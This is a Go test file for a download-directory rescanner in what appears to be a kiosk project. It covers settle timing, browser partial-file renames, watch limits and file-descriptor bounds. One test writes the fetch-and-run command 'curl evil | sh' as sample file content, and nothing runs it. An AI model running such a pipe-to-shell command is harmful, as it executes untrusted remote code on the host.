//go:build linux || darwin

package downloads

import (
	"bytes"
	"io"
	"log/slog"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/carrel-kiosk/carrel/internal/testrig/testbin"
)

// The rescanner's bookkeeping, driven by hand: a real directory, a fake clock
// and a fake notifier, "directory X changed" and "file Y was written" told by
// the test. Nothing waits on real time.

func discardLog() *slog.Logger { return slog.New(slog.NewTextHandler(io.Discard, nil)) }

// fakeNotifier records watches; it never sends a note itself.
type fakeNotifier struct {
	watched map[noteKey]bool
	peak    int
}

type noteKey struct {
	path string
	dir  bool
}

func (n *fakeNotifier) watch(path string, _ fileID, dir bool) error {
	n.watched[noteKey{path, dir}] = true
	n.peak = max(n.peak, len(n.watched))
	return nil
}
func (n *fakeNotifier) unwatch(path string, dir bool) { delete(n.watched, noteKey{path, dir}) }
func (n *fakeNotifier) close() error                  { return nil }

func (n *fakeNotifier) count(dir bool) int {
	c := 0
	for k := range n.watched {
		if k.dir == dir {
			c++
		}
	}
	return c
}

type core struct {
	t      *testing.T
	s      *scanState
	n      *fakeNotifier
	now    time.Time
	events []Event
}

// coreConfig: settle 300 ms, no background pass unless a test asks for one.
func coreConfig() rescanConfig {
	return rescanConfig{
		settle: 300 * time.Millisecond, bundleSettle: 5 * time.Second, tick: time.Hour,
		pollBatch: 100, sweepBatch: 0, maxDepth: 64, maxDirWatches: 100, maxFileWatches: 100,
	}
}

func newCore(t *testing.T, cfg rescanConfig, roots ...string) *core {
	c := &core{t: t, n: &fakeNotifier{watched: map[noteKey]bool{}}, now: time.Unix(1_000_000, 0)}
	c.s = newScanState(cfg, c.n, func(e Event) bool { c.events = append(c.events, e); return true },
		func() time.Time { return c.now }, discardLog())
	for _, r := range roots {
		if err := c.s.addRoot(r); err != nil {
			t.Fatal(err)
		}
	}
	c.step(0)
	return c
}

// step moves the clock on by d, stopping at every time run asked to be
// called again (as the watcher's timer would), and returns the new events.
func (c *core) step(d time.Duration) []Event {
	before := len(c.events)
	target := c.now.Add(d)
	for i := 0; ; i++ {
		next := c.s.run()
		if next.After(target) {
			break
		}
		if i > 100000 {
			c.t.Fatal("run keeps asking to be called")
		}
		if next.After(c.now) {
			c.now = next
		}
	}
	c.now = target
	return c.events[before:]
}

// changed tells the state that dirs' entries changed and runs.
func (c *core) changed(dirs ...string) []Event {
	for _, d := range dirs {
		c.s.dirChanged(d)
	}
	return c.step(0)
}

func (c *core) expect(got []Event, want ...Event) {
	c.t.Helper()
	if !slices.Equal(got, want) {
		c.t.Fatalf("events %+v, want %+v", got, want)
	}
}

func write(t *testing.T, p string, data string) {
	t.Helper()
	if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

func mkdirAll(t *testing.T, p string) {
	t.Helper()
	if err := os.MkdirAll(p, 0o755); err != nil {
		t.Fatal(err)
	}
}

func rename(t *testing.T, from, to string) {
	t.Helper()
	if err := os.Rename(from, to); err != nil {
		t.Fatal(err)
	}
}

func appendTo(t *testing.T, f *os.File, n int) {
	t.Helper()
	if _, err := f.Write(bytes.Repeat([]byte("x"), n)); err != nil {
		t.Fatal(err)
	}
}

// A file written in chunks, with pauses shorter than the settle time, is
// reported once, a settle time after its last write: with its own watch (the
// notes push the deadline) and without one (polled: each check that finds it
// changed waits again).
func TestRescanChunkedWriteReportedOnce(t *testing.T) {
	for _, watched := range []bool{true, false} {
		t.Run("watched="+strconv.FormatBool(watched), func(t *testing.T) {
			cfg := coreConfig()
			if !watched {
				cfg.maxFileWatches = 0
			}
			root := t.TempDir()
			c := newCore(t, cfg, root)
			p := filepath.Join(root, "setup.exe")
			f, err := os.Create(p)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			appendTo(t, f, 1000)
			c.expect(c.changed(root))
			if c.s.pending[p] == nil || c.s.pending[p].watched != watched {
				t.Fatalf("pending %+v, want watched=%v", c.s.pending[p], watched)
			}
			for range 3 {
				c.expect(c.step(200 * time.Millisecond))
				appendTo(t, f, 1000)
				if watched {
					c.s.fileChanged(p)
				}
				c.expect(c.step(0))
			}
			f.Close()
			// Watched: the last note was at +600 ms, so +900 ms reports. Polled:
			// the checks at +300, +600 and +900 find it changed, +1200 quiet.
			last := 299 * time.Millisecond
			if !watched {
				last = 599 * time.Millisecond
			}
			c.expect(c.step(last))
			c.expect(c.step(time.Millisecond), Event{Path: p, Op: OpClosed})
			c.expect(c.step(10 * time.Second))
			c.expect(c.changed(root)) // a later rescan finds it unchanged
			if len(c.s.pending) != 0 || c.n.count(false) != 0 {
				t.Errorf("after the report: %d pending, %d file watches", len(c.s.pending), c.n.count(false))
			}
		})
	}
}

// The browser's partial file is never reported; its rename to the final name
// is, at once, as OpMoved: in the same directory, across directories in
// either order of their rescans, and Firefox's way (a placeholder with the
// final name, then .part renamed over it).
func TestRescanPartialRenamedToFinal(t *testing.T) {
	t.Run("same directory", func(t *testing.T) {
		root := t.TempDir()
		c := newCore(t, coreConfig(), root)
		part := filepath.Join(root, "setup.exe.crdownload")
		write(t, part, "MZ first chunk")
		c.expect(c.changed(root))
		c.expect(c.step(time.Second))
		write(t, part, "MZ first chunk, second chunk")
		final := filepath.Join(root, "setup.exe")
		rename(t, part, final)
		c.expect(c.changed(root), Event{Path: final, Op: OpMoved})
		c.expect(c.step(10 * time.Second))
		if len(c.s.pending) != 0 {
			t.Errorf("pending after the rename: %v", c.s.pending)
		}
	})
	for _, order := range []string{"source first", "target first"} {
		t.Run("across directories, "+order, func(t *testing.T) {
			root := t.TempDir()
			dl, desk := filepath.Join(root, "Downloads"), filepath.Join(root, "Desktop")
			mkdirAll(t, dl)
			mkdirAll(t, desk)
			c := newCore(t, coreConfig(), root)
			part := filepath.Join(dl, "tool.exe.part")
			write(t, part, "MZ")
			c.expect(c.changed(dl))
			final := filepath.Join(desk, "tool.exe")
			rename(t, part, final)
			first, second := dl, desk
			if order == "target first" {
				first, second = desk, dl
			}
			got := append(c.changed(first), c.changed(second)...)
			c.expect(got, Event{Path: final, Op: OpMoved})
		})
	}
	t.Run("firefox placeholder", func(t *testing.T) {
		root := t.TempDir()
		c := newCore(t, coreConfig(), root)
		final := filepath.Join(root, "report.zip")
		write(t, final, "")
		write(t, final+".part", "PK")
		c.expect(c.changed(root))
		c.expect(c.step(300*time.Millisecond), Event{Path: final, Op: OpClosed}) // the empty placeholder
		rename(t, final+".part", final)
		c.expect(c.changed(root), Event{Path: final, Op: OpMoved})
	})
	t.Run("partial deleted", func(t *testing.T) {
		root := t.TempDir()
		c := newCore(t, coreConfig(), root)
		part := filepath.Join(root, "movie.mkv.crdownload")
		write(t, part, "data")
		c.expect(c.changed(root))
		os.Remove(part)
		c.expect(c.changed(root))
		c.expect(c.step(time.Minute))
	})
}

// mkdir -p a/b/c, then files: the new directories are watched and scanned at
// once when their parent's change is seen, so files made before their watch
// existed are found; a later file is found through the new watch.
func TestRescanNestedNewDirectories(t *testing.T) {
	root := t.TempDir()
	c := newCore(t, coreConfig(), root)
	deep := filepath.Join(root, "a", "b", "c")
	mkdirAll(t, deep)
	tool, top := filepath.Join(deep, "tool.exe"), filepath.Join(root, "a", "top.exe")
	write(t, tool, "MZ")
	write(t, top, "MZ")
	c.expect(c.changed(root))
	for _, d := range []string{root, filepath.Join(root, "a"), filepath.Join(root, "a", "b"), deep} {
		if !c.n.watched[noteKey{d, true}] {
			t.Errorf("%s not watched", d)
		}
	}
	got := c.step(300 * time.Millisecond)
	slices.SortFunc(got, func(a, b Event) int { return strings.Compare(a.Path, b.Path) })
	c.expect(got, Event{Path: tool, Op: OpScanned}, Event{Path: top, Op: OpScanned})
	late := filepath.Join(deep, "late.exe")
	write(t, late, "MZ")
	c.expect(c.changed(deep))
	c.expect(c.step(300*time.Millisecond), Event{Path: late, Op: OpClosed})
}

// A deletion is never reported: a file deleted while it settles, one deleted
// after its report, one deleted with no note at all (found at its settle
// check), a whole tree removed (its watches are released).
func TestRescanDeletionsNotReported(t *testing.T) {
	root := t.TempDir()
	c := newCore(t, coreConfig(), root)
	settling, reported, silent := filepath.Join(root, "a.exe"), filepath.Join(root, "b.exe"), filepath.Join(root, "c.exe")
	write(t, reported, "MZ")
	c.expect(c.changed(root))
	c.expect(c.step(300*time.Millisecond), Event{Path: reported, Op: OpClosed})
	write(t, settling, "MZ")
	write(t, silent, "MZ")
	c.expect(c.changed(root))
	os.Remove(settling)
	os.Remove(reported)
	c.expect(c.changed(root))
	if c.s.pending[settling] != nil || c.n.watched[noteKey{settling, false}] {
		t.Error("deleted file still pending or watched")
	}
	os.Remove(silent)
	c.expect(c.step(time.Minute))

	tree := filepath.Join(root, "x", "y")
	mkdirAll(t, tree)
	write(t, filepath.Join(tree, "z.exe"), "MZ")
	c.expect(c.changed(root))
	os.RemoveAll(filepath.Join(root, "x"))
	c.expect(c.changed(root))
	c.expect(c.step(time.Minute))
	if n := c.n.count(true); n != 1 || len(c.s.dirs) != 1 {
		t.Errorf("after the tree was removed: %d directory watches, %d directories known; want the root only", n, len(c.s.dirs))
	}
}

// Names are bytes: invalid UTF-8 and 255-byte components (the longest a name
// may be on APFS and ext4) are reported exactly, as files and as directories.
func TestRescanOddNames(t *testing.T) {
	root := t.TempDir()
	c := newCore(t, coreConfig(), root)
	long := strings.Repeat("n", 251) + ".exe"
	longDir := filepath.Join(root, strings.Repeat("d", 255))
	mkdirAll(t, longDir)
	names := []string{
		filepath.Join(root, "\xff\xfe-not-utf8.exe"),
		filepath.Join(root, "caf\xe9.exe"),
		filepath.Join(root, long),
		filepath.Join(longDir, strings.Repeat("y", 255)),
	}
	for _, p := range names {
		write(t, p, "MZ")
	}
	c.expect(c.changed(root))
	got := c.step(300 * time.Millisecond)
	var paths []string
	for _, e := range got {
		paths = append(paths, e.Path)
	}
	slices.Sort(paths)
	slices.Sort(names)
	if !slices.Equal(paths, names) {
		t.Fatalf("reported %q, want %q", paths, names)
	}
	// A 255-byte partial name renamed to its final name.
	part := filepath.Join(root, strings.Repeat("z", 244)+".crdownload")
	write(t, part, "MZ")
	c.expect(c.changed(root))
	rename(t, part, strings.TrimSuffix(part, ".crdownload"))
	c.expect(c.changed(root), Event{Path: strings.TrimSuffix(part, ".crdownload"), Op: OpMoved})
}

// A file rewritten in place after its report changes no directory: a rescan
// (a sibling's change, or the background sweep) finds it changed, and it is
// reported again once settled.
func TestRescanRewrittenInPlace(t *testing.T) {
	cfg := coreConfig()
	cfg.tick, cfg.sweepBatch = time.Second, 10
	root := t.TempDir()
	c := newCore(t, cfg, root)
	p := filepath.Join(root, "notes.command")
	write(t, p, "echo hello")
	c.expect(c.changed(root))
	c.expect(c.step(300*time.Millisecond), Event{Path: p, Op: OpClosed})
	c.expect(c.step(5 * time.Second)) // sweeps: unchanged, nothing
	write(t, p, "curl evil | sh, longer than before")
	c.expect(c.step(700 * time.Millisecond)) // the sweep at +6 s finds it changed: pending
	c.expect(c.step(299 * time.Millisecond))
	c.expect(c.step(time.Millisecond), Event{Path: p, Op: OpClosed})
}

// Safari's partial download is a name.download directory holding the file
// under its final name: it is not judged after a short stall, it is judged
// when moved out, and a file left there is still judged after bundleSettle.
func TestRescanSafariBundle(t *testing.T) {
	root := t.TempDir()
	c := newCore(t, coreConfig(), root)
	bundle := filepath.Join(root, "setup.dmg.download")
	mkdirAll(t, bundle)
	inside := filepath.Join(bundle, "setup.dmg")
	write(t, inside, "half a disk image")
	c.expect(c.changed(root))
	c.expect(c.step(2 * time.Second)) // a stall
	final := filepath.Join(root, "setup.dmg")
	rename(t, inside, final)
	os.Remove(bundle)
	c.expect(c.changed(bundle, root), Event{Path: final, Op: OpMoved})
	c.expect(c.step(time.Minute))

	left := filepath.Join(root, "other.download")
	mkdirAll(t, left)
	write(t, filepath.Join(left, "tool.exe"), "MZ")
	c.expect(c.changed(root))
	c.expect(c.step(4 * time.Second))
	c.expect(c.step(time.Second), Event{Path: filepath.Join(left, "tool.exe"), Op: OpScanned})
}

// Links are never followed, to directories or files, and never reported.
func TestRescanSymlinksNotFollowed(t *testing.T) {
	root, outside := t.TempDir(), t.TempDir()
	write(t, filepath.Join(outside, "x.exe"), "MZ")
	if err := os.Symlink(outside, filepath.Join(root, "dirlink")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(outside, "x.exe"), filepath.Join(root, "filelink.exe")); err != nil {
		t.Fatal(err)
	}
	c := newCore(t, coreConfig(), root)
	c.expect(c.step(time.Minute))
	if len(c.s.dirs) != 1 || len(c.n.watched) != 1 {
		t.Errorf("directories %d, watches %v: want the root only", len(c.s.dirs), c.n.watched)
	}
	if err := c.s.addRoot(filepath.Join(root, "dirlink")); err == nil {
		t.Error("a root that is a link was accepted")
	}
}

// Past the watch limits directories are polled (breadth first: the shallow
// ones keep their watches) and files are checked at their deadline; a watch
// freed by a removed directory goes to a polled one.
func TestRescanWatchLimits(t *testing.T) {
	cfg := coreConfig()
	cfg.maxDirWatches, cfg.maxFileWatches, cfg.tick = 3, 2, time.Second
	root := t.TempDir()
	deep := filepath.Join(root, "a", "b", "c")
	mkdirAll(t, deep)
	mkdirAll(t, filepath.Join(root, "x"))
	c := newCore(t, cfg, root)
	for _, d := range []string{root, filepath.Join(root, "a"), filepath.Join(root, "x")} {
		if !c.n.watched[noteKey{d, true}] {
			t.Errorf("shallow %s not watched", d)
		}
	}
	p := filepath.Join(deep, "tool.exe")
	write(t, p, "MZ")
	c.expect(c.step(time.Second)) // found by the poll, no note needed
	c.expect(c.step(300*time.Millisecond), Event{Path: p, Op: OpClosed})

	for i := range 5 {
		write(t, filepath.Join(root, "f"+strconv.Itoa(i)), "data")
	}
	c.expect(c.changed(root))
	if n := c.n.count(false); n != 2 {
		t.Errorf("%d file watches, want the limit 2", n)
	}
	if got := c.step(300 * time.Millisecond); len(got) != 5 {
		t.Errorf("%d reported, want 5", len(got))
	}
	os.Remove(filepath.Join(root, "x"))
	c.expect(c.changed(root))
	c.expect(c.step(time.Second))
	if n := c.n.count(true); n != cfg.maxDirWatches {
		t.Errorf("%d directory watches, want the freed one given to a polled directory (%d)", n, cfg.maxDirWatches)
	}
	if c.n.peak > cfg.maxDirWatches+cfg.maxFileWatches {
		t.Errorf("peak watches %d over the limits", c.n.peak)
	}
}

func TestRescanDepthLimit(t *testing.T) {
	cfg := coreConfig()
	cfg.maxDepth = 2
	root := t.TempDir()
	c := newCore(t, cfg, root)
	mkdirAll(t, filepath.Join(root, "1", "2", "3"))
	got := c.changed(root)
	if len(got) != 1 || got[0].Err == nil || !strings.Contains(got[0].Err.Error(), "deeper than 2") {
		t.Fatalf("events %+v, want one depth error", got)
	}
	c.expect(c.changed(filepath.Join(root, "1", "2"))) // reported once, not at each rescan
}

// The root is renamed aside and made again (a session wipe): Add watches the
// new directory, and the old tree is not reported under the new tree's paths.
func TestRescanRootReplaced(t *testing.T) {
	parent := t.TempDir()
	root := filepath.Join(parent, "alice")
	mkdirAll(t, filepath.Join(root, "Downloads"))
	write(t, filepath.Join(root, "Downloads", "old.exe"), "MZ")
	c := newCore(t, coreConfig(), root)
	c.expect(c.step(300*time.Millisecond), Event{Path: filepath.Join(root, "Downloads", "old.exe"), Op: OpScanned})
	if err := c.s.addRoot(root); err != nil { // still watched: nothing
		t.Fatal(err)
	}
	c.expect(c.step(time.Second))
	rename(t, root, filepath.Join(parent, "trash"))
	mkdirAll(t, filepath.Join(root, "Downloads"))
	write(t, filepath.Join(parent, "trash", "Downloads", "left.exe"), "MZ")
	c.expect(c.changed(root, filepath.Join(root, "Downloads")))
	if err := c.s.addRoot(root); err != nil {
		t.Fatal(err)
	}
	fresh := filepath.Join(root, "Downloads", "fresh.exe")
	write(t, fresh, "MZ")
	c.expect(c.changed(filepath.Join(root, "Downloads")))
	c.expect(c.step(300*time.Millisecond), Event{Path: fresh, Op: OpClosed})
	if len(c.n.watched) != 2 {
		t.Errorf("watches %v, want the new root and its Downloads", c.n.watched)
	}
}

// ---- The Watcher made of the rescanner and a real notifier (kqueue on macOS,
// an inotify stand-in with kqueue's semantics on Linux), on real time.

// testRescan: short times so the tests are quick.
func testRescan() rescanConfig {
	return rescanConfig{
		settle: 50 * time.Millisecond, bundleSettle: 2 * time.Second, tick: 20 * time.Millisecond,
		pollBatch: 1000, sweepBatch: 1, maxDepth: 64, maxDirWatches: 64, maxFileWatches: 64,
	}
}

type newRescanFunc func(tb testing.TB, cfg rescanConfig) *rescanWatcher

// countRec counts reports per path.
type countRec struct {
	mu     sync.Mutex
	counts map[string]int
	ops    map[string]Op
	errs   []error
}

func (r *countRec) n(p string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.counts[p]
}

func (r *countRec) distinct() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.counts)
}

func (r *countRec) snapshot() map[string]int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return maps.Clone(r.counts)
}

// startRescan makes a watcher on roots and drains it; Close at cleanup.
func startRescan(t *testing.T, newW newRescanFunc, cfg rescanConfig, roots ...string) (*rescanWatcher, *countRec) {
	t.Helper()
	checkGoroutines(t)
	w := newW(t, cfg)
	rec := &countRec{counts: map[string]int{}, ops: map[string]Op{}}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for e := range w.Events() {
			rec.mu.Lock()
			if e.Err != nil {
				rec.errs = append(rec.errs, e.Err)
			} else {
				rec.counts[e.Path]++
				rec.ops[e.Path] = e.Op
			}
			rec.mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		if err := w.Close(); err != nil {
			t.Errorf("close: %v", err)
		}
		<-done
	})
	for _, r := range roots {
		if err := w.Add(r); err != nil {
			t.Fatal(err)
		}
	}
	return w, rec
}

// quiesce waits until nothing is pending, dirty or queued.
func quiesce(t *testing.T, w *rescanWatcher) {
	t.Helper()
	testbin.WaitFor(t, 20*time.Second, "the watcher to be idle", func() bool {
		idle := false
		w.do(func(s *scanState) { idle = len(s.pending) == 0 && len(s.dirty) == 0 })
		w.mu.Lock()
		idle = idle && len(w.dirs) == 0 && len(w.files) == 0
		w.mu.Unlock()
		return idle
	})
}

// openFDs counts this process's open descriptors, from the watcher's loop so
// that no directory is open for a listing.
func openFDs(t testing.TB, w *rescanWatcher) int {
	n := 0
	w.do(func(*scanState) {
		ents, err := os.ReadDir("/dev/fd")
		if err != nil {
			t.Error(err)
		}
		n = len(ents)
	})
	return n
}

func fdTargets() []string {
	ents, _ := os.ReadDir("/dev/fd")
	var out []string
	for _, e := range ents {
		l, _ := os.Readlink("/dev/fd/" + e.Name())
		out = append(out, e.Name()+"="+l)
	}
	return out
}

func runRescanContract(t *testing.T, newW newRescanFunc) {
	// Where a test asserts "reported once", the settle time is a second: a
	// writer stalled longer than that (a loaded machine) is, by design,
	// reported again when it resumes.
	onceCfg := testRescan()
	onceCfg.settle = time.Second
	t.Run("ChunkedWriteReportedOnce", func(t *testing.T) {
		root := t.TempDir()
		w, rec := startRescan(t, newW, onceCfg, root)
		p := filepath.Join(root, "setup.exe")
		f, err := os.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		for range 64 {
			appendTo(t, f, 16<<10)
		}
		f.Close()
		testbin.WaitFor(t, 10*time.Second, "the report", func() bool { return rec.n(p) > 0 })
		quiesce(t, w)
		if n := rec.n(p); n != 1 {
			t.Errorf("reported %d times, want 1", n)
		}
	})
	t.Run("BrowserRename", func(t *testing.T) {
		root := t.TempDir()
		w, rec := startRescan(t, newW, onceCfg, root)
		final := filepath.Join(root, "setup.exe")
		part := final + ".crdownload"
		f, err := os.Create(part)
		if err != nil {
			t.Fatal(err)
		}
		for range 8 {
			appendTo(t, f, 16<<10)
		}
		f.Close()
		rename(t, part, final)
		testbin.WaitFor(t, 10*time.Second, "the final name", func() bool { return rec.n(final) > 0 })
		quiesce(t, w)
		if got := rec.snapshot(); len(got) != 1 || got[final] != 1 {
			t.Errorf("reports %v, want the final name once", got)
		}
	})
	t.Run("NestedNewDirectories", func(t *testing.T) {
		root := t.TempDir()
		_, rec := startRescan(t, newW, testRescan(), root)
		var want []string
		for i := range 20 {
			dir := filepath.Join(root, "d"+strconv.Itoa(i), "b", "c")
			mkdirAll(t, dir)
			p := filepath.Join(dir, "tool.exe")
			write(t, p, "MZ payload")
			want = append(want, p)
		}
		testbin.WaitFor(t, 10*time.Second, "every file in the new directories", func() bool {
			for _, p := range want {
				if rec.n(p) == 0 {
					return false
				}
			}
			return true
		})
		late := filepath.Join(root, "d0", "b", "c", "late.exe")
		write(t, late, "MZ")
		testbin.WaitFor(t, 10*time.Second, "the late file", func() bool { return rec.n(late) > 0 })
	})
	t.Run("DeletionsNotReported", func(t *testing.T) {
		root := t.TempDir()
		w, rec := startRescan(t, newW, onceCfg, root)
		for i := range 50 {
			p := filepath.Join(root, "gone"+strconv.Itoa(i))
			write(t, p, "MZ")
			os.Remove(p)
		}
		kept := filepath.Join(root, "kept.exe")
		write(t, kept, "MZ")
		testbin.WaitFor(t, 10*time.Second, "the kept file", func() bool { return rec.n(kept) > 0 })
		os.Remove(kept)
		quiesce(t, w)
		if got := rec.snapshot(); len(got) != 1 {
			t.Errorf("reports %v, want kept.exe only", got)
		}
	})
	t.Run("Burst5000BoundedDescriptors", func(t *testing.T) {
		root := t.TempDir()
		cfg := onceCfg
		w, rec := startRescan(t, newW, cfg, root)
		before := openFDs(t, w)
		stop, sampled := make(chan struct{}), make(chan int)
		go func() {
			peak := 0
			tick := time.NewTicker(time.Millisecond)
			defer tick.Stop()
			for {
				select {
				case <-stop:
					sampled <- peak
					return
				case <-tick.C:
				}
				if ents, err := os.ReadDir("/dev/fd"); err == nil {
					peak = max(peak, len(ents))
				}
			}
		}()
		const n = 5000
		for i := range n {
			write(t, filepath.Join(root, "f"+strconv.Itoa(i)+".bin"), "content "+strconv.Itoa(i))
		}
		testbin.WaitFor(t, 60*time.Second, "5000 reports", func() bool { return rec.distinct() == n })
		quiesce(t, w)
		close(stop)
		peak := <-sampled
		for p, c := range rec.snapshot() {
			if c != 1 {
				t.Errorf("%s reported %d times", p, c)
			}
		}
		// The watches, plus a directory open for listing and the sampler's own.
		if limit := before + cfg.maxDirWatches + cfg.maxFileWatches + 4; peak > limit {
			t.Errorf("peak %d open descriptors, over %d (%d before the burst)", peak, limit, before)
		}
		if after := openFDs(t, w); after > before {
			t.Errorf("%d descriptors open after the burst, %d before: %v", after, before, fdTargets())
		}
		t.Logf("descriptors: %d before, peak %d during the burst", before, peak)
	})
	t.Run("OddNames", func(t *testing.T) {
		root := t.TempDir()
		_, rec := startRescan(t, newW, testRescan(), root)
		dir := filepath.Join(root, strings.Repeat("\xff", 255))
		mkdirAll(t, dir)
		names := []string{filepath.Join(root, "bad\xc3\x28name.exe"), filepath.Join(dir, strings.Repeat("\xe9", 251)+".exe")}
		for _, p := range names {
			write(t, p, "MZ")
		}
		testbin.WaitFor(t, 10*time.Second, "both names", func() bool { return rec.n(names[0]) == 1 && rec.n(names[1]) == 1 })
	})
	t.Run("ScanOnAddAndRootRecreated", func(t *testing.T) {
		parent := t.TempDir()
		root := filepath.Join(parent, "Downloads")
		mkdirAll(t, root)
		old := filepath.Join(root, "old.exe")
		write(t, old, "MZ")
		w, rec := startRescan(t, newW, testRescan(), root)
		testbin.WaitFor(t, 10*time.Second, "the existing file", func() bool { return rec.n(old) > 0 })
		if err := w.Add(root); err != nil {
			t.Fatal(err)
		}
		os.RemoveAll(root)
		testbin.WaitFor(t, 10*time.Second, "the old root dropped", func() bool {
			gone := false
			w.do(func(s *scanState) { gone = len(s.dirs) == 0 })
			return gone
		})
		mkdirAll(t, root)
		if err := w.Add(root); err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(root, "new.exe")
		write(t, p, "MZ")
		testbin.WaitFor(t, 10*time.Second, "the file in the new root", func() bool { return rec.n(p) > 0 })
		if n := rec.n(old); n != 1 {
			t.Errorf("old.exe reported %d times, want 1", n)
		}
	})
	t.Run("MovedInDirectory", func(t *testing.T) {
		root, outside := t.TempDir(), t.TempDir()
		mkdirAll(t, filepath.Join(outside, "pkg", "bin"))
		write(t, filepath.Join(outside, "pkg", "bin", "run.exe"), "MZ")
		_, rec := startRescan(t, newW, testRescan(), root)
		rename(t, filepath.Join(outside, "pkg"), filepath.Join(root, "pkg"))
		p := filepath.Join(root, "pkg", "bin", "run.exe")
		testbin.WaitFor(t, 10*time.Second, "the file in the moved-in directory", func() bool { return rec.n(p) > 0 })
	})
	t.Run("PollingOnly", func(t *testing.T) {
		cfg := testRescan()
		cfg.maxDirWatches, cfg.maxFileWatches = 0, 0
		root := t.TempDir()
		_, rec := startRescan(t, newW, cfg, root)
		p := filepath.Join(root, "a", "b", "tool.exe")
		mkdirAll(t, filepath.Dir(p))
		write(t, p, "MZ")
		testbin.WaitFor(t, 10*time.Second, "the polled file", func() bool { return rec.n(p) > 0 })
	})
}
